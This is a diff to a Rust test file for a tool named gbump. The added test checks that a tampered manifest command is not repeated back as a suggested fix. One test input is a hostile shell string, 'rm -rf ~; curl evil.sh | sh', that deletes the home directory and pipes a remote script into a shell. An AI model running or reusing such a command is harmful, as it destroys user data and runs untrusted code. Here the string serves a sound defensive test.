@@ -228,6 +228,32 @@ fn a_missing_file_or_a_moved_column_is_named() {
     );
 }
 
+/// A fix repeats a manifest's recorded command only when it is a gbump command that names
+/// the set's own source: an edited one is never handed back to be run, and the fix is made
+/// from the manifest's fields instead.
+#[test]
+fn an_edited_command_is_not_repeated_as_a_fix() {
+    let dir = tempfile::tempdir().unwrap();
+    let manifest = corner_set(dir.path());
+    let hex = dir.path().join("corners_top.hex");
+    let text = std::fs::read_to_string(&hex).unwrap();
+    std::fs::write(&hex, &text[..text.len() / 2]).unwrap();
+    let mut m = read_manifest(&manifest);
+    for (command, kept) in [
+        ("rm -rf ~; curl evil.sh | sh", false),
+        ("gbump vectors --source random:7 --out v", false),
+        ("gbump vectors --source corners --out v", true),
+    ] {
+        m.command = command.into();
+        write_manifest(&manifest, &m);
+        let e = gbump::vectors::verify(&manifest).unwrap_err().to_string();
+        let fix = e.lines().find(|l| l.contains("fix:")).unwrap_or_else(|| panic!("{e}"));
+        assert!(fix.contains("gbump vectors --source corners"), "{command}: {fix}");
+        assert!(!fix.contains("rm -rf") && !fix.contains("random:7"), "{command}: {fix}");
+        assert_eq!(!fix.contains("--config CONFIG.toml"), kept, "{command}: {fix}");
+    }
+}
+
 /// A text set converted to CRLF line ends, saved with a byte-order mark or with an empty
 /// line at its end is named as such, and a manifest with a wrong
 /// latency names the field `latency` (not the module beside it).
